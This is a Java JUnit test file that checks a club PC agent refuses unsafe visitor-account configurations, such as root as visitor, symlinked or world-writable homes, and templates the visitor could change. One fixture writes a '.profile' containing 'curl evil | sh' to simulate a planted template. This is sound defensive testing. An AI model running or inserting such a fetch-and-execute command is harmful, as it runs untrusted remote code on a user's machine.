package bg.digiclub.agent.visitor;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import bg.digiclub.agent.config.AgentConfig;
import bg.digiclub.agent.config.AgentConfigLoader;
import bg.digiclub.agent.config.CommandLineOverrides;
import bg.digiclub.common.config.ConfigException;
import bg.digiclub.common.link.WipeStepResult;

/** Picking this PC's visitor account and checking the configuration against the PC. Runs as root. */
class VisitorAccountsTest {
    @TempDir
    Path dir;

    private PosixAccount account;
    private Path home;
    private Path template;

    @BeforeEach
    void setUp() throws Exception {
        account = TestAccount.get();
        TestAccount.traversable(dir);
        home = Files.createDirectory(dir.resolve("home"));
        template = Files.createDirectory(dir.resolve("template"));
        Files.writeString(template.resolve(".bashrc"), "# club\n");
    }

    @Test
    void noAccountConfiguredGivesOneWhoseResetFailsNamingTheFile() throws Exception {
        VisitorAccount v = forThisPc(load(""));

        assertInstanceOf(UnsupportedVisitorAccount.class, v);
        List<WipeStepResult> results = v.reset();
        assertTrue(results.stream().noneMatch(WipeStepResult::ok));
        assertTrue(
                results.get(1).detail().contains("visitor.account in " + dir.resolve("agent.properties")),
                results.toString());
    }

    @Test
    void aConfiguredAccountIsTheLinuxOneAndResets() throws Exception {
        VisitorAccount v = forThisPc(load(configured()));

        assertInstanceOf(LinuxVisitorAccount.class, v);
        assertTrue(v.reset().stream().allMatch(WipeStepResult::ok));
        assertEquals("# club\n", Files.readString(home.resolve(".bashrc")));
        ((LinuxVisitorAccount) v).purge().join();
    }

    @Test
    void unknownAccountIsRefused() {
        assertRefused("visitor.account=digiclub-no-such-account\n", "visitor.account", "not an account");
    }

    @Test
    void rootAsVisitorIsRefused() {
        assertRefused(
                "visitor.account=root\nvisitor.home=" + home + "\nvisitor.home-template=" + template + "\n",
                "visitor.account",
                "is root");
    }

    @Test
    void aHomeWhoseParentOthersCanWriteIsRefused() throws Exception {
        Files.setPosixFilePermissions(dir, PosixFilePermissions.fromString("rwxrwxrwx"));

        assertRefused(configured(), "visitor.home", "must be root's and writable by root only");
    }

    @Test
    void aCookieInTheVisitorsHomeIsRefused() {
        assertRefused(
                configured() + "visitor.xauthority=" + home.resolve(".Xauthority") + "\n",
                "visitor.xauthority",
                "must not be in the visitor's home");
    }

    @Test
    void aHomeThatIsALinkIsRefused() throws Exception {
        Files.delete(home);
        Files.createSymbolicLink(home, template);

        assertRefused(configured(), "visitor.home", "not a directory");
    }

    @Test
    void aTemplateTheVisitorCouldChangeIsRefused() throws Exception {
        Path planted = Files.writeString(template.resolve(".profile"), "curl evil | sh\n");
        Files.setAttribute(planted, "unix:uid", account.uid());

        assertRefused(configured(), "visitor.home-template", "belongs to the visitor account");
    }

    @Test
    void aWorldWritableTemplateIsRefused() throws Exception {
        Files.setPosixFilePermissions(template, PosixFilePermissions.fromString("rwxrwxrwx"));

        assertRefused(configured(), "visitor.home-template", "writable by others");
    }

    @Test
    void aTempDirHoldingTheHomeIsRefused() throws Exception {
        assertRefused(
                configured() + "visitor.temp-dirs=/tmp," + dir + "\n", "visitor.temp-dirs", "the directory holding it");
    }

    @Test
    void aMediaDirHoldingTheHomeIsRefused() throws Exception {
        // the home, a tmpfs of its own, would be unmounted at every reset
        assertRefused(
                configured() + "visitor.media-dirs=/media/v," + dir + "\n",
                "visitor.media-dirs",
                "must not be the visitor's home, inside it, or hold it");
        assertRefused(
                configured() + "visitor.media-dirs=" + home.resolve("usb") + "\n",
                "visitor.media-dirs",
                "must not be the visitor's home");
    }

    @Test
    void aHomeHoldingTheAgentsDataIsRefused() throws Exception {
        Path f = Files.writeString(
                dir.resolve("agent.properties"), configured() + "data-dir=" + home.resolve("agent") + "\n");
        AgentConfig c = AgentConfigLoader.load(
                new CommandLineOverrides(Optional.of(f), Optional.empty(), Optional.empty(), Optional.empty()));

        ConfigException e = assertThrows(ConfigException.class, () -> forThisPc(c));
        assertTrue(e.getMessage().contains("overlaps the agent's own directory"), e.getMessage());
    }

    private String configured() {
        return "visitor.account=" + account.name() + "\nvisitor.home=" + home + "\nvisitor.home-template=" + template
                + "\n";
    }

    private void assertRefused(String text, String key, String what) {
        ConfigException e = assertThrows(ConfigException.class, () -> forThisPc(load(text)));
        assertTrue(e.getMessage().startsWith(dir.resolve("agent.properties") + ": key '" + key + "'"), e.getMessage());
        assertTrue(e.getMessage().contains(what), e.getMessage());
        assertFalse(
                Files.exists(HomeReset.holdingDirectory(home)), "nothing done before the configuration is found good");
    }

    private AgentConfig load(String text) throws Exception {
        Path f = Files.writeString(dir.resolve("agent.properties"), text);
        return AgentConfigLoader.load(new CommandLineOverrides(
                Optional.of(f), Optional.of(dir.resolve("data")), Optional.empty(), Optional.empty()));
    }

    private static VisitorAccount forThisPc(AgentConfig config) {
        return VisitorAccounts.forThisPc(config.visitor(), config.sourceName(), config.agentDirectories());
    }
}
